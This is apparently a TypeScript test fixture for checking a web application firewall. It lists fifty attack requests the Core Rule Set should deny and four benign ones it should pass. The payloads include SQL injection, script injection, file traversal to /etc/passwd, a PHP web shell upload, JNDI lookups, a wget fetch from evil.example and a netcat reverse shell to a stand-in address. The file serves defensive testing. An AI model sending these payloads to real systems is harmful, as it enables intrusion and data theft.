// Fifty attacks that the Core Rule Set denies at its default settings, in the places where attacks come: path, query, names of
// arguments, headers, cookies, and bodies of every type. The payloads are common knowledge; none is of the rule set's own tests.

export interface Shape {
  name: string;
  method: string;
  path: string;
  headers: Record<string, string>;
  body?: string;
}

const get = (name: string, path: string, headers: Record<string, string> = {}): Shape => ({
  name,
  method: "GET",
  path,
  headers,
});

const query = (name: string, value: string): Shape =>
  get(name, `/search?q=${encodeURIComponent(value)}`);

const post = (name: string, type: string, body: string, path = "/api"): Shape => ({
  name,
  method: "POST",
  path,
  headers: { "content-type": type },
  body,
});

const form = (name: string, value: string): Shape =>
  post(name, "application/x-www-form-urlencoded", `a=1&text=${encodeURIComponent(value)}`);
const json = (name: string, value: string): Shape =>
  post(name, "application/json", JSON.stringify({ a: 1, text: value }));
const part = (name: string, head: string, content: string): Shape =>
  post(
    name,
    "multipart/form-data; boundary=b0undary",
    `--b0undary\r\nContent-Disposition: form-data; ${head}\r\n\r\n${content}\r\n--b0undary--\r\n`,
  );

/** Attacks without a body. */
export const bodyless: Shape[] = [
  query("SQL: tautology", "1' or '1'='1"),
  query("SQL: union", "1 union select login,pass from users--"),
  query("SQL: stacked", "1; drop table users; --"),
  query("SQL: sleep", "1' and sleep(5)#"),
  query("SQL: waitfor", "1'; waitfor delay '0:0:5'--"),
  query("SQL: information schema", "1 and (select count(*) from information_schema.tables)>0"),
  get("SQL: name of an argument", "/search?1'%20union%20select%20a,b%20from%20t--%20-=1"),
  get("SQL: cookie", "/", { cookie: "id=1' union select 1,2,3-- -" }),
  query("script: element", "<script>alert(1)</script>"),
  query("script: handler", "<img src=x onerror=alert(1)>"),
  query("script: svg", "<svg/onload=alert(1)>"),
  query("script: address", "<a href=javascript:alert(1)>x</a>"),
  query("script: frame", "<iframe src=//evil.example></iframe>"),
  get("script: escaped twice", "/search?q=%253Cscript%253Ealert(1)%253C/script%253E"),
  get("script: agent", "/", { "user-agent": "<script>alert(1)</script>" }),
  query("files: passwd", "../../../../etc/passwd"),
  query("files: windows", "..\\..\\..\\windows\\win.ini"),
  get("files: in the path", "/static/..%2f..%2f..%2fetc/passwd"),
  query("files: php filter", "php://filter/convert.base64-encode/resource=index.php"),
  get("files: repository", "/.git/config"),
  get("files: environment", "/.env"),
  get("files: backup", "/wp-config.php.bak"),
  query("include: address", "http://203.0.113.7/shell.txt?"),
  query("command: semicolon", ";cat /etc/passwd"),
  query("command: pipe", "|id;ls -la"),
  query("command: substitution", "$(wget http://evil.example/x)"),
  query("command: back quotes", "`cat /etc/shadow`"),
  query("command: powershell", "powershell -enc SQBFAFgA -nop -w hidden"),
  query("command: netcat", "nc -e /bin/sh 203.0.113.7 4444"),
  get("command: shellshock", "/cgi-bin/x", { "user-agent": "() { :;}; /bin/bash -c id" }),
  query("code: php", "<?php system($_GET['c']); ?>"),
  query("code: php functions", "base64_decode(eval($_POST[x]))"),
  query("code: lookup", "${jndi:ldap://evil.example/a}"),
  get("code: lookup in a header", "/", { "x-api-version": "${jndi:ldap://evil.example/a}" }),
  query("code: java", "java.lang.Runtime.getRuntime().exec('id')"),
  query("code: node", "require('child_process').exec('id')"),
  query("code: prototype", "__proto__[x]=1&constructor.prototype.x=1"),
  query("requests: metadata", "http://169.254.169.254/latest/meta-data/"),
  query("headers: split", "x\r\nSet-Cookie: a=b\r\n\r\n<html>"),
  get("scanner: sqlmap", "/", { "user-agent": "sqlmap/1.8.2#stable (https://sqlmap.org)" }),
];

/** Attacks in a body. */
export const bodied: Shape[] = [
  form("form: SQL", "1' or '1'='1"),
  form("form: script", "<script>alert(1)</script>"),
  form("form: command", "; cat /etc/passwd"),
  form("form: files", "../../../../etc/passwd"),
  json("JSON: SQL", "1' union select a,b from users-- -"),
  json("JSON: script", "<img src=x onerror=alert(1)>"),
  part("multipart: SQL", 'name="text"', "1' or '1'='1"),
  part("multipart: script file", 'name="f"; filename="shell.php"', "<?php system($_GET[0]);"),
  post("XML: script", "text/xml", "<a><b>&lt;script&gt;alert(1)&lt;/script&gt;</b></a>"),
  form("form: lookup", "${jndi:ldap://evil.example/a}"),
];

/** Requests that pass: that the upstream hears of them shows that it counts. */
export const innocent: Shape[] = [
  query("a search", "fish and chips"),
  get("a page", "/products/7?color=dark+blue", { cookie: "session=8f2d; theme=dark" }),
  form("a form", "Dear shop, where is my order?"),
  json("a document", "Two chairs, one table"),
];
